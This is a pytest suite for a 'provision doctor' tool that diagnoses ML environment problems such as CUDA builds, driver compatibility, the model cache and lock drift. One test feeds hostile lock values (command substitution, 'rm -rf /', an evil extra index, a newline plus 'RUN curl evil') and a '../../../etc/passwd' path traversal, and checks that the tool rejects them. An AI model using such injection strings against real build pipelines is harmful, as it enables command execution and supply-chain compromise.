"""``provision doctor``: deliberately broken environments get the right verdict and the right fix.

Facts are built by hand (no torch, no GPU, no network); the expected fixes are computed
with the planner so the test checks that the doctor recommends what ``provision plan`` would.
"""

from __future__ import annotations

import json
import os
import shlex
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from provision.data.catalog import load_catalog
from provision.data.matrix import load_matrix
from provision.display import show_findings
from provision.doctor import DoctorReport, Finding, format_findings, run_doctor
from provision.doctor.checks import (
    check_bf16,
    check_bitsandbytes,
    check_cuda_available,
    check_torch_arch,
    check_torch_cuda_build,
)
from provision.doctor.expected import Expected
from provision.doctor.facts import CacheScan, Facts, find_lock, gather_facts, hub_cache_dir, scan_model_cache
from provision.doctor.install_checks import check_disk, check_lock_drift, check_model_cache
from provision.doctor.report import shown_fix
from provision.errors import InvalidInput
from provision.host.profile import load_host
from provision.plan.document import Plan, Preferences
from provision.plan.search import plan
from provision.vocab import DOCTOR_SCHEMA

HOSTS = Path(__file__).parent / "fixtures" / "hosts"
REPO = "zai-org/AutoGLM-Phone-9B"
REV = "0123456789abcdef0123456789abcdef01234567"


@pytest.fixture(scope="module")
def matrix() -> Any:
    return load_matrix()


@pytest.fixture(scope="module")
def autoglm(matrix: Any) -> Any:
    return load_catalog(matrix.root / "models.toml").get("autoglm-phone-9b")


def host(name: str) -> Any:
    return load_host(HOSTS / f"{name}.json")


def cuda_torch(version: str = "2.14.1+cu126", cuda: str = "12.6", archs: tuple[str, ...] = (
        "sm_50", "sm_60", "sm_70", "sm_75", "sm_80", "sm_86", "sm_90"), available: bool = True) -> dict[str, Any]:
    return {"version": version, "cuda": cuda, "available": available, "arch_list": list(archs),
            "device_count": 1 if available else 0, "error": None, "cuda_error": None}


CPU_TORCH = {"version": "2.9.1+cpu", "cuda": None, "available": False, "arch_list": [], "device_count": 0,
             "error": None, "cuda_error": None}
GOOD_PACKAGES = {"torch": "2.14.1+cu126", "transformers": "5.24.0", "accelerate": "1.15.0"}


def facts_for(h: Any, *, torch: dict[str, Any] | None = None, packages: dict[str, str] | None = None,
              environ: dict[str, str] | None = None, cache: Path | None = None, free: int | None = 10**12,
              bnb: dict[str, Any] | None = None) -> Facts:
    return Facts(host=h, packages=dict(GOOD_PACKAGES if packages is None else packages),
                 torch=cuda_torch() if torch is None else torch, bitsandbytes=bnb, environ=environ or {},
                 cache_dir=cache, disk_free_bytes=free, python=str(h.python))


def planned(h: Any, matrix: Any, model: Any, **prefs: Any) -> Expected:
    """What ``provision doctor`` plans without a lock: the in-process stack (``--engine transformers``)."""
    p = plan(h, matrix, model, Preferences(python=h.python_minor, **{"engine": "transformers", **prefs}))
    return Expected.from_plan(p, "planned for this host")


def by_check(findings: list[Finding]) -> dict[str, Finding]:
    return {f.check: f for f in findings}


def make_snapshot(cache: Path, *, shards: dict[str, int], total: int | None = None, config: bool = True,
                  index: bool = True) -> Path:
    """A Hugging Face cache layout: blobs/ + snapshots/<rev>/ symlinks + refs/main."""
    root = cache / ("models--" + REPO.replace("/", "--"))
    snap = root / "snapshots" / REV
    blobs = root / "blobs"
    snap.mkdir(parents=True)
    blobs.mkdir(parents=True)
    (root / "refs").mkdir()
    (root / "refs" / "main").write_text(REV)
    files: dict[str, bytes] = {}
    if config:
        files["config.json"] = b'{"model_type": "glm4v"}'
    if index:
        weight_map = {f"layer.{i}.weight": name for i, name in enumerate(shards)}
        meta = {"total_size": total if total is not None else sum(max(s, 0) for s in shards.values())}
        files["model.safetensors.index.json"] = json.dumps({"metadata": meta, "weight_map": weight_map}).encode()
    for name, size in shards.items():
        if size >= 0:
            files[name] = b"\0" * size
    for i, (name, data) in enumerate(files.items()):
        blob = blobs / f"blob{i:03d}"
        blob.write_bytes(data)
        (snap / name).symlink_to(Path("../../blobs") / blob.name)
    return snap


FOUR_SHARDS = {f"model-0000{i}-of-00004.safetensors": 1000 + i for i in range(1, 5)}


# ---------------------------------------------------------------------------
# The two broken environments the issue names


def test_cpu_torch_on_a10g_fails_with_the_planned_cuda_build(matrix: Any, autoglm: Any) -> None:
    h = host("linux-x86_64-a10g-driver535")
    facts = facts_for(h, torch=dict(CPU_TORCH), packages={**GOOD_PACKAGES, "torch": "2.9.1+cpu"})
    findings = by_check(run_doctor(facts=facts, matrix=matrix, search_lock=False))
    want = plan(h, matrix, autoglm, Preferences(python="3.11", engine="transformers"))
    assert want.variant.startswith("cu")  # the planner's CUDA variant for this driver
    expected_fix = f"pip install --index-url {want.index_url} torch=={want.packages['torch']}"
    build = findings["torch.cuda_build"]
    assert build.status == "fail"
    assert "CPU-only build" in build.message and "A10G" in build.message
    assert build.fix == expected_fix
    avail = findings["torch.cuda_available"]
    assert avail.status == "fail" and "CPU-only" in avail.message and avail.fix == expected_fix
    assert findings["torch.arch"].status == "skip"
    assert DoctorReport(findings=tuple(findings.values())).ok is False


def test_transformers_4_for_autoglm_fails_with_the_planned_pin(matrix: Any, autoglm: Any) -> None:
    h = host("linux-x86_64-a10g-driver535")
    facts = facts_for(h, packages={**GOOD_PACKAGES, "transformers": "4.57.1"})
    findings = by_check(run_doctor(facts=facts, matrix=matrix, search_lock=False))
    tf = findings["transformers"]
    pin = plan(h, matrix, autoglm, Preferences(python="3.11", engine="transformers")).packages["transformers"]
    assert pin.startswith("5.")
    assert tf.status == "fail"
    assert "4.57.1" in tf.message and ">= 5.0.0" in tf.message and "cannot read its config" in tf.message
    assert tf.fix == f"pip install transformers=={pin}"
    assert tf.evidence == {"version": "4.57.1", "min_for_model": "5.0.0"}


def test_healthy_gpu_environment_has_no_failures(tmp_path: Path, matrix: Any, autoglm: Any) -> None:
    h = host("linux-x86_64-h100-80gb-driver580")
    want = planned(h, matrix, autoglm)
    make_snapshot(tmp_path, shards=FOUR_SHARDS)
    packages = dict(want.packages)
    facts = facts_for(h, torch=cuda_torch(packages["torch"], str(matrix.torch[0].variant(want.variant).cuda),
                                          archs=("sm_80", "sm_90", "sm_100")),
                      packages=packages, cache=tmp_path)
    findings = run_doctor(facts=facts, matrix=matrix, search_lock=False)
    report = DoctorReport(findings=tuple(findings))
    assert report.ok is True, format_findings(findings)
    assert {f.check: f.status for f in findings}["model.cache"] == "ok"
    assert {f.check: f.status for f in findings}["disk"] == "skip"


# ---------------------------------------------------------------------------
# torch against driver and GPU


def test_driver_too_old_for_torch_cuda(matrix: Any, autoglm: Any) -> None:
    h = host("linux-x86_64-t4-driver470")  # driver 470 runs CUDA <= 11.4
    f = check_torch_cuda_build(facts_for(h, torch=cuda_torch("2.9.1+cu128", "12.8")), matrix, None)
    assert f.status == "fail"
    assert "CUDA 12.8" in f.message and "470.239.06" in f.message
    assert "update the NVIDIA driver" in (f.fix or "")


def test_minor_version_compatibility_is_a_warning(matrix: Any) -> None:
    h = host("linux-x86_64-a10g-driver535")  # CUDA 12.2 driver, cu126 runs via the 12.x family floor
    f = check_torch_cuda_build(facts_for(h, torch=cuda_torch("2.9.1+cu126", "12.6")), matrix, None)
    assert f.status == "warn" and "minor-version compatibility" in f.message


def test_cpu_torch_on_a_cpu_host_is_fine(matrix: Any, autoglm: Any) -> None:
    h = host("linux-x86_64-cpu-only-32gb")
    facts = facts_for(h, torch=dict(CPU_TORCH), packages={**GOOD_PACKAGES, "torch": "2.9.1+cpu"})
    findings = by_check(run_doctor(facts=facts, matrix=matrix, search_lock=False))
    assert findings["torch.cuda_build"].status == "ok"
    assert findings["torch.cuda_available"].status == "skip"
    assert "no NVIDIA driver" in findings["torch.cuda_available"].message
    assert findings["bf16"].status == "skip"


@pytest.mark.parametrize(("name", "archs", "status"), [
    ("linux-x86_64-t4-driver535", ("sm_80", "sm_86", "sm_90"), "fail"),  # Turing, no sm_7x kernels
    ("linux-x86_64-t4-driver535", ("sm_70", "sm_80"), "ok"),  # sm_70 cubin runs on 7.5 (same major)
    ("linux-x86_64-rtx3060-12gb-driver550", ("sm_80", "sm_90"), "ok"),  # 8.6 runs sm_80
    ("linux-x86_64-a100-40gb-driver535", ("sm_86", "sm_90"), "fail"),  # 8.0 cannot run sm_86
    ("linux-x86_64-rtx5090-driver575", ("sm_80", "sm_90", "compute_90"), "ok"),  # PTX JIT forward
    ("linux-x86_64-rtx5090-driver575", ("sm_80", "sm_90"), "fail"),  # 12.0 without PTX
])
def test_arch_list_rule(matrix: Any, name: str, archs: tuple[str, ...], status: str) -> None:
    h = host(name)
    f = check_torch_arch(facts_for(h, torch=cuda_torch("2.9.1+cu128", "12.8", archs=archs)), matrix, None)
    assert f.status == status, f.message
    if status == "fail":
        assert h.gpus[0].sm in f.message and f.fix


def test_ptx_does_not_jit_under_minor_version_compatibility(matrix: Any) -> None:
    h = host("linux-x86_64-a10g-driver535")  # CUDA 12.2 driver running a 12.8 build
    gpu = replace(h.gpus[0], compute_capability=(9, 0))
    h = replace(h, nvidia=replace(h.nvidia, gpus=(gpu,)))
    f = check_torch_arch(facts_for(h, torch=cuda_torch("2.9.1+cu128", "12.8", archs=("sm_80", "compute_80"))),
                         matrix, None)
    assert f.status == "fail"


def test_cuda_visible_devices_hiding_every_gpu(matrix: Any) -> None:
    h = host("linux-x86_64-a10g-driver535")
    hidden = replace(h, nvidia=replace(h.nvidia, gpus=()))  # what detection reports under CUDA_VISIBLE_DEVICES=""
    for value, profile in (("", hidden), ("-1", hidden), ("-1", h)):
        facts = facts_for(profile, torch=cuda_torch(available=False), environ={"CUDA_VISIBLE_DEVICES": value})
        f = check_cuda_available(facts, matrix, None)
        assert f.status == "fail" and "hides every GPU" in f.message, (value, f)
        assert f.fix == "unset CUDA_VISIBLE_DEVICES"
        assert f.evidence["CUDA_VISIBLE_DEVICES"] == value


def test_cuda_unavailable_for_an_unknown_reason_shows_the_error(matrix: Any) -> None:
    h = host("linux-x86_64-h100-80gb-driver580")
    torch = {**cuda_torch("2.9.1+cu128", "12.8", available=False), "cuda_error": "RuntimeError: no CUDA GPUs"}
    f = check_cuda_available(facts_for(h, torch=torch), matrix, None)
    assert f.status == "fail" and "no CUDA GPUs" in f.message and "--gpus all" in (f.fix or "")


def test_torch_that_does_not_import(matrix: Any) -> None:
    h = host("linux-x86_64-a10g-driver535")
    broken = {**cuda_torch(), "error": "OSError: libcudnn.so.9: cannot open shared object file"}
    findings = by_check(run_doctor(facts=facts_for(h, torch=broken), matrix=matrix, search_lock=False))
    assert findings["torch"].status == "fail" and "libcudnn" in findings["torch"].evidence["error"]
    assert findings["torch"].fix and findings["torch"].fix.startswith("pip install --index-url https://download.pytorch.org/whl/cu")
    assert {findings[c].status for c in ("torch.cuda_build", "torch.arch", "torch.cuda_available")} == {"skip"}


def test_torch_not_installed(matrix: Any) -> None:
    h = host("linux-x86_64-cpu-only-32gb")
    facts = Facts(host=h, packages={}, torch=None, python="3.11.7")
    findings = by_check(run_doctor(facts=facts, matrix=matrix, search_lock=False))
    assert findings["torch"].status == "fail" and findings["torch"].message == "torch is not installed"
    assert findings["transformers"].status == "fail"


# ---------------------------------------------------------------------------
# bf16 and bitsandbytes


def test_bf16(matrix: Any, autoglm: Any) -> None:
    t4 = host("linux-x86_64-t4-driver535")
    assert check_bf16(facts_for(t4), None).status == "warn"
    # 4,096 tokens: bf16 on the A10G (at its serving context of 25,480 tokens it plans int8)
    locked_bf16 = replace(planned(host("linux-x86_64-a10g-driver535"), matrix, autoglm, context_tokens=4096), gpus=(0,))
    f = check_bf16(facts_for(t4), locked_bf16)
    assert locked_bf16.precision == "bf16" and f.status == "fail" and "7.5" in f.message
    assert check_bf16(facts_for(host("linux-x86_64-a10g-driver535")), None).status == "ok"


def test_bitsandbytes_needed_but_missing(matrix: Any, autoglm: Any) -> None:
    h = host("linux-x86_64-a10g-driver535")
    want = planned(h, matrix, autoglm, precision="nf4")
    f = check_bitsandbytes(facts_for(h), matrix, want)
    assert f.status == "fail" and f.fix == f"pip install bitsandbytes=={want.packages['bitsandbytes']}"


def test_bitsandbytes_without_a_library_for_torch_cuda(matrix: Any, autoglm: Any) -> None:
    h = host("linux-x86_64-a10g-driver535")
    want = planned(h, matrix, autoglm, precision="int8")
    facts = facts_for(h, torch=cuda_torch("2.9.1+cu129", "12.9"), packages={**GOOD_PACKAGES, "bitsandbytes": "0.50.2"},
                      bnb={"error": None})
    f = check_bitsandbytes(facts, matrix, want)
    assert f.status == "fail" and "no library for torch's CUDA 12.9" in f.message


def test_bitsandbytes_gpu_floors(matrix: Any) -> None:
    h = host("linux-x86_64-gtx1080ti-driver535")  # cc 6.1: 4-bit yes, LLM.int8 no (needs 7.5)
    facts = facts_for(h, torch=cuda_torch("2.9.1+cu128", "12.8"), packages={**GOOD_PACKAGES, "bitsandbytes": "0.50.2"},
                      bnb={"error": None})
    f = check_bitsandbytes(facts, matrix, None)
    assert f.status == "ok"
    assert f.evidence["int8"] is False and f.evidence["four_bit"] is True
    assert "int8 no, 4-bit yes" in f.message
    int8 = Expected(model_id="autoglm-phone-9b", python="3.11", torch_version="2.9.1", variant="cu128",
                    index_url="https://download.pytorch.org/whl/cu128", device="cuda", precision="int8", gpus=(0,),
                    packages={"torch": "2.9.1+cu128", "bitsandbytes": "0.50.2"}, source="test")
    f = check_bitsandbytes(facts, matrix, int8)
    assert f.status == "fail" and "int8 needs compute capability >= 7.5" in f.message


def test_bitsandbytes_that_does_not_import(matrix: Any) -> None:
    h = host("linux-x86_64-a10g-driver535")
    facts = facts_for(h, packages={**GOOD_PACKAGES, "bitsandbytes": "0.50.2"},
                      bnb={"error": "RuntimeError: CUDA Setup failed"})
    f = check_bitsandbytes(facts, matrix, None)
    assert f.status == "warn" and "does not import" in f.message  # not needed for bf16: a warning


# ---------------------------------------------------------------------------
# The Hugging Face cache and free disk


def test_hub_cache_dir_precedence(tmp_path: Path) -> None:
    assert hub_cache_dir({}, home=tmp_path) == tmp_path / ".cache" / "huggingface" / "hub"
    assert hub_cache_dir({"XDG_CACHE_HOME": "/x"}, home=tmp_path) == Path("/x/huggingface/hub")
    assert hub_cache_dir({"HF_HOME": "/h", "XDG_CACHE_HOME": "/x"}) == Path("/h/hub")
    assert hub_cache_dir({"HF_HUB_CACHE": "/c", "HF_HOME": "/h"}) == Path("/c")


def test_complete_cache(tmp_path: Path, autoglm: Any) -> None:
    snap = make_snapshot(tmp_path, shards=FOUR_SHARDS)
    scan = scan_model_cache(autoglm, tmp_path)
    assert scan.snapshot == snap and scan.complete
    f = check_model_cache(scan, autoglm)
    assert f.status == "ok" and "4 shard(s)" in f.message


@pytest.mark.parametrize(("shards", "total", "config", "words"), [
    ({**FOUR_SHARDS, "model-00004-of-00004.safetensors": -1}, None, True, "1 of 4 shards missing"),
    ({**FOUR_SHARDS, "model-00002-of-00004.safetensors": 0}, None, True, "empty shards"),
    (FOUR_SHARDS, 10**9, True, "truncated download"),
    (FOUR_SHARDS, None, False, "config.json is missing"),
])
def test_incomplete_cache(tmp_path: Path, autoglm: Any, shards: dict[str, int], total: int | None, config: bool,
                          words: str) -> None:
    make_snapshot(tmp_path, shards=shards, total=total, config=config)
    scan = scan_model_cache(autoglm, tmp_path)
    assert not scan.complete
    f = check_model_cache(scan, autoglm)
    assert f.status == "fail" and words in f.message
    assert f.fix and f.fix.startswith(f"hf download {REPO}")


def test_interrupted_blob_and_bad_index(tmp_path: Path, autoglm: Any) -> None:
    snap = make_snapshot(tmp_path, shards=FOUR_SHARDS)
    (snap.parent.parent / "blobs" / "abc.incomplete").write_bytes(b"x")
    assert "interrupted download" in check_model_cache(scan_model_cache(autoglm, tmp_path), autoglm).message
    index = snap / "model.safetensors.index.json"
    index.unlink()
    index.write_text('{"weight_map": {"a": "../../../etc/passwd"}}')
    f = check_model_cache(scan_model_cache(autoglm, tmp_path), autoglm)
    assert f.status == "fail" and "not a shard file name" in f.message
    index.write_text("{not json")
    f = check_model_cache(scan_model_cache(autoglm, tmp_path), autoglm)
    assert f.status == "fail" and "invalid JSON" in f.message


def test_absent_model_and_disk(tmp_path: Path, autoglm: Any) -> None:
    scan = scan_model_cache(autoglm, tmp_path)
    assert scan.snapshot is None
    f = check_model_cache(scan, autoglm)
    assert f.status == "warn" and "20.6 GB" in f.message  # 10.29 B parameters in bf16
    h = host("linux-x86_64-a10g-driver535")
    low = check_disk(facts_for(h, cache=tmp_path, free=5 * 10**9), scan, autoglm)
    assert low.status == "fail" and "needs 20.6 GB" in low.message and "HF_HOME" in (low.fix or "")
    assert check_disk(facts_for(h, cache=tmp_path, free=50 * 10**9), scan, autoglm).status == "ok"
    assert check_disk(facts_for(h, cache=tmp_path, free=None), scan, autoglm).status == "skip"
    partial = CacheScan(root=tmp_path, snapshot=tmp_path, has_config=True,
                        shards={"a": 15 * 10**9, "b": -1}, expected_bytes=20 * 10**9)
    assert check_disk(facts_for(h, free=6 * 10**9), partial, autoglm).status == "ok"  # 5 GB left to fetch


# ---------------------------------------------------------------------------
# Lock drift


def write_lock(path: Path, plan_doc: dict[str, Any]) -> Path:
    from provision.render.lock import build_lock, dump_lock

    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(dump_lock(build_lock(inputs={}, plan=plan_doc, hashes={}, files={})))
    return path


def test_lock_drift_compares_exact_versions(tmp_path: Path, matrix: Any, autoglm: Any) -> None:
    h = host("linux-x86_64-a10g-driver535")
    plan_doc = plan(h, matrix, autoglm, Preferences(python="3.11", engine="transformers")).to_dict()
    lock = write_lock(tmp_path / "out" / "provision.lock.json", plan_doc)
    pins = dict(plan_doc["packages"])
    ok = by_check(run_doctor(lock_path=lock, facts=facts_for(h, packages=pins), matrix=matrix))["lock.drift"]
    assert ok.status == "ok"
    plain = pins["torch"].split("+")[0]  # the PyPI build: same release, different local label
    drifted = {**pins, "torch": plain, "accelerate": "0.34.0"}
    drifted.pop("tokenizers")
    f = by_check(run_doctor(lock_path=lock, facts=facts_for(h, packages=drifted), matrix=matrix))["lock.drift"]
    assert f.status == "fail"
    assert set(f.evidence["drift"]) == {"torch", "accelerate", "tokenizers"}
    assert f.evidence["drift"]["tokenizers"]["installed"] is None
    assert f"torch {plain} (locked {pins['torch']})" in f.message
    assert f.fix == (f"pip install --index-url {plan_doc['torch']['index_url']} torch=={pins['torch']} && "
                     f"pip install accelerate=={pins['accelerate']} tokenizers=={pins['tokenizers']}")


def test_lock_for_another_python(tmp_path: Path, matrix: Any, autoglm: Any) -> None:
    h = host("linux-x86_64-a10g-driver535")
    plan_doc = plan(h, matrix, autoglm, Preferences(python="3.12", engine="transformers")).to_dict()
    lock = write_lock(tmp_path / "provision.lock.json", plan_doc)
    facts = facts_for(h, packages=dict(plan_doc["packages"]))
    f = check_lock_drift(facts, Expected.from_plan(Plan.from_dict(plan_doc), str(lock)), lock)
    assert f.status == "fail" and "Python 3.12" in f.message and f.fix.startswith("provision build")


@pytest.mark.parametrize(("mutate", "field"), [
    (lambda p: p["torch"].update(index_url="https://x.org/$(touch /tmp/pwned)"), "plan.torch.index_url"),
    (lambda p: p["packages"].update({"torch; rm -rf /": "1"}), "plan.packages.torch; rm -rf /"),
    (lambda p: p["packages"].update(torch="2.9.1 --extra-index-url http://evil"), "plan.packages.torch"),
    (lambda p: p["model"].update(id="x\nRUN curl evil"), "plan.model.id"),
    (lambda p: p.update(precision="int3"), "plan.precision"),
    (lambda p: p.update(schema="provision.plan/v9"), "plan.schema"),
    (lambda p: p.update(gpus=[True]), "plan.gpus[0]"),
])
def test_hostile_lock_is_bad_input(tmp_path: Path, matrix: Any, autoglm: Any, mutate: Any, field: str) -> None:
    plan_doc = plan(host("linux-x86_64-a10g-driver535"), matrix, autoglm, Preferences(engine="transformers")).to_dict()
    mutate(plan_doc)
    lock = write_lock(tmp_path / "provision.lock.json", plan_doc)
    with pytest.raises(InvalidInput) as exc:
        run_doctor(lock_path=lock, facts=facts_for(host("linux-x86_64-a10g-driver535")), matrix=matrix)
    assert exc.value.source == str(lock) and exc.value.field == field


def test_missing_lock_is_bad_input(tmp_path: Path, matrix: Any) -> None:
    with pytest.raises(InvalidInput, match="no such file"):
        run_doctor(lock_path=tmp_path / "nope.json", facts=facts_for(host("linux-x86_64-a10g-driver535")),
                   matrix=matrix)


def test_find_lock(tmp_path: Path, matrix: Any, autoglm: Any) -> None:
    h = host("linux-x86_64-a10g-driver535")
    plan_doc = plan(h, matrix, autoglm, Preferences(engine="transformers")).to_dict()
    assert find_lock(h, cwd=tmp_path, prefix=tmp_path / "nowhere" / "venv") is None
    base = tmp_path / "build" / "provision"
    other = write_lock(base / "other-host" / "autoglm-phone-9b" / "provision.lock.json", plan_doc)
    assert find_lock(h, cwd=tmp_path, prefix=tmp_path / "x" / "venv") == other
    mine = write_lock(base / h.host_id / "autoglm-phone-9b" / "provision.lock.json", plan_doc)
    os.utime(other, (mine.stat().st_mtime + 100,) * 2)  # newer, but another host's
    assert find_lock(h, cwd=tmp_path, prefix=tmp_path / "x" / "venv") == mine
    # folders are per host and model: the asked model's wins over this host's newer render of another
    glm = write_lock(base / h.host_id / "glm-4-9b-chat-hf" / "provision.lock.json", plan_doc)
    os.utime(glm, (mine.stat().st_mtime + 10,) * 2)
    assert find_lock(h, cwd=tmp_path, prefix=tmp_path / "x" / "venv") == glm
    assert find_lock(h, model_id="autoglm-phone-9b", cwd=tmp_path, prefix=tmp_path / "x" / "venv") == mine
    beside_venv = write_lock(tmp_path / "out" / "provision.lock.json", plan_doc)
    assert find_lock(h, cwd=tmp_path, prefix=tmp_path / "out" / "venv") == beside_venv


# ---------------------------------------------------------------------------
# Output and secrets


def test_report_schema_and_printers(matrix: Any) -> None:
    h = host("linux-x86_64-a10g-driver535")
    findings = run_doctor(facts=facts_for(h, torch=dict(CPU_TORCH)), matrix=matrix, search_lock=False)
    typed = DoctorReport(findings=tuple(findings))
    report = json.loads(json.dumps(typed.to_dict()))
    assert DoctorReport.from_dict(report) == typed  # the document round-trips
    assert report["schema"] == DOCTOR_SCHEMA and report["ok"] is False
    assert report["counts"]["fail"] == sum(1 for f in report["findings"] if f["status"] == "fail") >= 1
    assert all(set(f) == {"check", "status", "message", "evidence", "fix"} for f in report["findings"])
    text = format_findings(findings)
    assert "[FAIL] torch.cuda_build" in text and "fix: pip install --index-url" in text
    assert text.splitlines()[-1].startswith("problems found")
    from rich.console import Console

    console = Console(record=True, width=200)
    show_findings(typed, console)
    shown = console.export_text()
    assert "torch.cuda_build" in shown and "problems found" in shown
    narrow = Console(record=True, width=80)  # a terminal's width cuts no command a user must copy
    show_findings(typed, narrow)
    lines = narrow.export_text().splitlines()
    fixes = [fix for f in findings if (fix := shown_fix(f))]
    assert fixes and all(any(line.strip() == command.strip() for line in lines)
                         for fix in fixes for command in fix.splitlines())
    assert "…" not in narrow.export_text()
    assert DoctorReport(findings=(Finding(check="x", status="warn", message="m"),)).ok is True
    with pytest.raises(ValueError):
        Finding(check="x", status="bad", message="m")


def test_tokens_never_reach_the_report(tmp_path: Path, matrix: Any) -> None:
    token = "hf_fakeTOKENabcdefghijklmnopqrstuvwx"
    env = {"HF_TOKEN": token, "HUGGING_FACE_HUB_TOKEN": token, "HF_HOME": str(tmp_path / "hf"),
           "CUDA_VISIBLE_DEVICES": "0"}
    facts = gather_facts(host("linux-x86_64-a10g-driver535"), environ=env, import_torch=False)
    assert "HF_TOKEN" not in facts.environ and "HUGGING_FACE_HUB_TOKEN" not in facts.environ
    assert facts.cache_dir == tmp_path / "hf" / "hub"
    findings = run_doctor(facts=facts, matrix=matrix, search_lock=False)
    blob = json.dumps(DoctorReport(findings=tuple(findings)).to_dict()) + format_findings(findings)
    assert token not in blob and "hf_fake" not in blob


def test_fix_commands_are_shell_safe(matrix: Any, autoglm: Any) -> None:
    """Every pip fix parses as one command of plain words (values come validated from the plan)."""
    h = host("linux-x86_64-a10g-driver535")
    facts = facts_for(h, torch=dict(CPU_TORCH), packages={"transformers": "4.57.1"})
    for f in run_doctor(facts=facts, matrix=matrix, search_lock=False):
        if f.fix and f.fix.startswith("pip install"):
            words = shlex.split(f.fix)
            assert all(not set(w) & set(";|&$`\n") for w in words), f.fix


def test_a_locked_package_outside_the_watched_list_is_read_not_reported_missing() -> None:
    """A transformers plan pins fastapi, uvicorn, ...; the drift check must see what is installed."""
    from importlib.metadata import version

    from provision.doctor.facts import WATCHED, with_versions_of

    host = load_host(Path(__file__).parent / "fixtures" / "hosts" / "linux-x86_64-cpu-only-32gb.json")
    facts = gather_facts(host, environ={}, import_torch=False)
    assert "packaging" not in WATCHED and "packaging" not in facts.packages
    topped = with_versions_of(facts, ["packaging", "Not_Installed-anywhere"])
    assert topped.packages["packaging"] == version("packaging")
    assert "not-installed-anywhere" not in topped.packages
    assert with_versions_of(topped, ["packaging"]) is topped  # nothing left to read
